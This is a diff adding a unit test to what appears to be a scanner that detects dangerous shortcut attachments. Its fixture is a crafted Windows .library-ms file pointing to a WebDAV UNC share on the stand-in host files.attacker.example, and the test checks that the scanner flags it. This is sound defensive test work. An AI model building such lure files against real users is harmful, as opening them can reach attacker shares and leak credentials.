@@ -44,6 +44,19 @@ TEST(InternetShortcutTest, AHandlerTargetIsAProtocolHandlerLink) {
   ASSERT_NE(first(r, "LINK_PROTOCOL_HANDLER"), nullptr);
 }
 
+TEST(InternetShortcutTest, ALibraryOnAWebDavShareIsAUncLink) {
+  const ScanResult r = scan(with_shortcut(
+      "Documents.library-ms",
+      "<?xml version=\"1.0\" encoding=\"UTF-8\"?><libraryDescription xmlns=\"http://schemas.microsoft.com/windows/2009/library\">"
+      "<searchConnectorDescriptionList><searchConnectorDescription><simpleLocation>"
+      "<url>\\\\files.attacker.example@SSL\\DavWWWRoot\\docs</url></simpleLocation></searchConnectorDescription>"
+      "</searchConnectorDescriptionList></libraryDescription>"));
+  const Finding* unc = first(r, "LINK_UNC_PATH");
+  ASSERT_NE(unc, nullptr);
+  EXPECT_NE(unc->evidence.at(0).value.find("WebDAV share on files.attacker.example"), std::string::npos)
+      << unc->evidence.at(0).value;
+}
+
 TEST(InternetShortcutTest, ABookmarkToAWebPageWeighsLittle) {
   const ScanResult r = scan(with_shortcut("Service-public.url", "[InternetShortcut]\r\nURL=https://www.service-public.fr/\r\n"));
   const Finding* type = first(r, "ATTACHMENT_DANGEROUS_TYPE");
